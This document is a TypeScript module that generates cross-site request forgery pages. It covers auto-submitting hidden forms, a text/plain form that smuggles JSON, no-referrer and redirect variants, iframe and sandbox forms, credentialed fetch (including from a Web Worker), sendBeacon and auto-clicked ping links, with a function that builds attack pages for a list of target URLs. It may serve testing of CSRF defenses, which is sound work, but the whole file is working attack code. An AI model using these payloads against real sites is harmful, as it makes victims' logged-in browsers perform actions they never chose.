/** A post to a URL of another origin. */
export interface Target {
  url: string
  fields: Record<string, string>
}

/** HTML that makes a browser post, as soon as it is looked at. */
type Attack = (target: Target) => string

// Whatever stands before the script.
const SUBMIT = '<script>document.currentScript.previousElementSibling.submit()</script>'
const CLICK = '<script>document.currentScript.previousElementSibling.click()</script>'
const script = (code: string): string => `<script>${code}</script>`
const encoded = ({ fields }: Target): string => `new URLSearchParams(${JSON.stringify(fields)})`
const fetching = (target: Target): string =>
  `fetch('${target.url}', { method: 'POST', mode: 'no-cors', credentials: 'include', body: ${encoded(target)} })`
/** By the hostile site itself, which sends the browser on with the body that it has. */
const redirected = ({ url, fields }: Target): Target => ({ url: `/?redirect=${encodeURIComponent(url)}`, fields })

function form({ url, fields }: Target, attributes = ''): string {
  const inputs = Object.entries(fields).map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
  return `<form method="post" action="${url}" ${attributes}>${inputs.join('')}</form>${SUBMIT}`
}

/** JSON in a form: what stands before the `=` of a field is its name, and the rest its value. */
function plainTextForm({ url, fields }: Target): string {
  const [name = '', value = ''] = JSON.stringify({ ...fields, x: '=' }).split('=')
  return `<form method="post" enctype="text/plain" action="${url}"><input type="hidden" name='${name}' value='${value}'></form>${SUBMIT}`
}

/** Those that take the page with them. */
export const FORMS: Record<string, Attack> = {
  'a form': (target) => form(target),
  'a form of plain text, which is JSON': plainTextForm,
  'a form without a referrer': (target) => `<meta name="referrer" content="no-referrer">${form(target)}`,
  'a form that is redirected': (target) => form(redirected(target)),
}

/** Those that a page can make many of. */
export const SCRIPTS: Record<string, Attack> = {
  'a form in a frame': (target) => `<iframe name="${target.url}"></iframe>${form(target, `target="${target.url}"`)}`,
  'a form in a sandbox': (target) => `<iframe sandbox="allow-forms allow-scripts" srcdoc='${form(target)}'></iframe>`,
  fetch: (target) => script(fetching(target)),
  'fetch that is redirected': (target) => script(fetching(redirected(target))),
  'fetch in a worker': (target) =>
    script(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(fetching(target))}])))`),
  'a beacon': (target) => script(`navigator.sendBeacon('${target.url}', ${encoded(target)})`),
  'a ping': ({ url }) => `<a href="#" ping="${url}">prize</a>${CLICK}`,
}

/** The pages of an attack on all of these. */
export function pagesOf(how: string, targets: Target[]): string[] {
  const alone = FORMS[how]
  if (alone) return targets.map(alone)
  const together = SCRIPTS[how]
  return together ? [targets.map(together).join('\n')] : []
}
